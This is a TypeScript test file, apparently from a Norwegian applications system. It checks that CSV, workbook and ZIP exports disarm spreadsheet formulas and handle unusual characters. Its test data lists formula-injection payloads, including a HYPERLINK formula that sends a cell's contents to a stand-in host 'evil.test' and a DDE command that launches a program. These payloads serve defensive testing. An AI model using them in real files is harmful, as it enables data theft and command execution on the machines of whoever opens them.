/** CSV, workbooks and archives, opened by readers that are not ours (R-STA-3). */
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { toCsv } from '../../exports/csv.ts';
import { type Cell, type ExportTable, itemsOf } from '../../exports/table.ts';
import { toXlsx } from '../../exports/xlsx.ts';
import { zip } from '../../exports/zip.ts';
import { parseXlsx } from '../../imports/xlsx.ts';
import { unzip } from './unzip.ts';

const table = (...cells: readonly Cell[]): ExportTable => ({
  title: 'Søknader',
  file: 'applications',
  columns: cells.map((_, at) => ({ key: `k${at}`, heading: `Kolonne ${at}` })),
  rows: [cells],
});

/** As people have tried to make a spreadsheet compute, fetch or start something. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.test?x="&A1;"Klikk")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(A1)',
  '\u22121+1',
  '\u200e=1+1',
  '\u202e=1+1',
  '\u00ad=1+1',
  '\u2060@SUM(A1)',
  '+47 22 24 90 90',
];
const harmless = [
  'Kari Ås',
  'a=b',
  '3-1',
  "d'Artagnan",
  'per@difi.test',
  '',
  '974761076',
  'Åse "Ø" & <Æ>',
  'x;=1+1',
  'to\r\nlinjer',
];

const csvRows = (bytes: Buffer): string[][] => parse(bytes, { bom: true, delimiter: ';', record_delimiter: '\r\n' });

describe('CSV', () => {
  test('begins with the mark, ends lines with CRLF, parts cells by semicolons', () => {
    const bytes = toCsv(table('Åse', 12.5, null, { day: '2017-03-29' }, { code: true, text: 'ja' }));
    expect(bytes.toString('latin1').slice(0, 3)).toBe('\u00ef\u00bb\u00bf');
    expect(bytes.toString().slice(1)).toBe(
      '"Kolonne 0";"Kolonne 1";"Kolonne 2";"Kolonne 3";"Kolonne 4"\r\n"Åse";12,5;;2017-03-29;"ja"\r\n',
    );
  });

  test.each(formulas)('%j comes out as text', (text) => {
    expect(csvRows(toCsv(table(text)))[1]).toEqual([`'${text}`]);
  });

  test('headings are disarmed too', () => {
    const [head] = csvRows(toCsv({ ...table('x'), columns: [{ key: 'k', heading: '=1+1' }] }));
    expect(head).toEqual(["'=1+1"]);
  });

  test('what is no formula is untouched, and numbers keep their sign', () => {
    expect(csvRows(toCsv(table(...harmless, -12.5, -3)))[1]).toEqual([...harmless, '-12,5', '-3']);
  });
});

describe('a workbook', () => {
  test('numbers are numbers, days are days, texts are texts', async () => {
    const days = ['1999-12-31', '2016-02-29', '2017-03-29'].map((day) => ({ day }));
    const rows = await readSheet(toXlsx(table('Kari', 12.5, -3, null, ...days, { code: false, text: 'nei' })));
    expect(rows[1]).toEqual(['Kari', 12.5, -3, null, ...days.map(({ day }) => new Date(`${day}T00:00Z`)), 'nei']);
  });

  test('no cell is a formula, whatever it holds', async () => {
    const cells = [...formulas, ...harmless.filter((text) => text !== '')];
    const bytes = toXlsx(table(...cells));
    const rows = await readSheet(bytes, { trim: false });
    expect(rows[1]).toEqual(cells.map((text) => text.replaceAll(/\r\n?/g, '\n')));
    const sheet = unzip(bytes)['xl/worksheets/sheet1.xml']?.toString() ?? '';
    expect(sheet).not.toMatch(/<f[ >]/);
    // Style 3 is the quoted one: editing the cell leaves it a text.
    expect([...sheet.matchAll(/ s="3"/g)].length).toBe(formulas.length);
  });

  test('signs that XML cannot hold are left out, and more columns than letters are named', async () => {
    const cells = Array.from({ length: 60 }, (_, at) => `c${at}\u0000\u0008\ud800`);
    const rows = await readSheet(toXlsx(table(...cells)));
    expect(rows[1]).toEqual(cells.map((_, at) => `c${at}`));
  });

  test('our own import reads it', async () => {
    const parsed = await parseXlsx(toXlsx(table('Kari Ås', { day: '2017-03-29' })));
    expect(parsed).toMatchObject({ table: { rows: [{ row: 2, cells: ['Kari Ås', '2017-03-29'] }] } });
  });
});

test('JSON has codes, days and numbers as they are', () => {
  expect(itemsOf(table('=1+1', -2.5, null, { day: '2017-03-29' }, { code: 'hired', text: 'ansatt' }))).toEqual([
    { k0: '=1+1', k1: -2.5, k2: null, k3: '2017-03-29', k4: 'hired' },
  ]);
});

describe('an archive', () => {
  const files = [
    { name: 'æ/ø.txt', bytes: Buffer.from('Hei på deg '.repeat(1000)) },
    { name: 'tom', bytes: Buffer.alloc(0) },
  ];

  test('is unpacked by its list, whole, with names in any letters', () => {
    const found = unzip(zip(files));
    expect(Object.keys(found)).toEqual(['æ/ø.txt', 'tom']);
    expect(found['æ/ø.txt']?.toString()).toBe('Hei på deg '.repeat(1000));
    expect(found['tom']?.length).toBe(0);
  });

  test('of the same files is the same bytes', () => {
    expect(zip(files)).toEqual(zip(files));
  });
});
